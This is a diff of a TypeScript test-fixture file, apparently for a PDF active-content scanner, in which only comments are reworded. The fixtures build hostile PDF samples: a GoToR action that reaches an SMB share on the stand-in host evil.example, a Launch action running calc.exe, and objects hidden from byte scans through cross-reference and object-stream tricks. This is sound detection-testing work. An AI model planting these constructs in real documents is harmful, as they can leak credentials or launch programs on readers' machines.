@@ -9,10 +9,10 @@ const remoteAt5 = '5 0 obj\n<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)
 const harmlessAt5 = '5 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj'
 
 const opening = [catalogue('/OpenAction 5 0 R'), pages, page()]
-/** The table sends viewers to the second object 5, which stands where a scan sees no object. */
+/** The table points viewers to the second object 5, where a scan finds no object. */
 const sent = (words: string) => ({ sent: { 5: words } })
 
-/** Hidden from a scan of the bytes: what the cross-reference table points into is no object by its looks. */
+/** Hidden from a scan: the bytes that the cross-reference table points to do not look like an object. */
 export const hiddenPdfs: Record<string, Make> = {
   'a script in a stream': () =>
     pdfWithTable([...opening, stream(4, `BT ET\n${scriptAt5}`)], sent('5 0 obj')),
@@ -52,7 +52,7 @@ export const hiddenPdfs: Record<string, Make> = {
   'an object stream in a stream': () => {
     const packed = deflateSync('5 0 <</S/Launch/F(calc.exe)>>', { level: 9 })
     const inner = stream(7, packed, '/Type/ObjStm/N 1/First 4/Filter/FlateDecode')
-    // The outer stream ends where the inner one does, for a scan that looks for the word.
+    // For a scan that searches for `endstream`, the outer stream ends with the inner one.
     return pdfWithTable([...opening, stream(4, inner)], { sent: { 7: '7 0 obj' } })
   },
   'a header split by a comment': () => {
@@ -124,7 +124,7 @@ const bookmarked = (action: string) =>
     `7 0 obj\n<</Title(One)/Parent 6 0 R/A${action}>>\nendobj`,
   ])
 
-/** Openly active: found by following the standard. */
+/** Visible to a reader that follows the standard. */
 export const openlyActivePdfs: Record<string, Make> = {
   'a click that opens a file on another host': () =>
     clicks('<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>'),
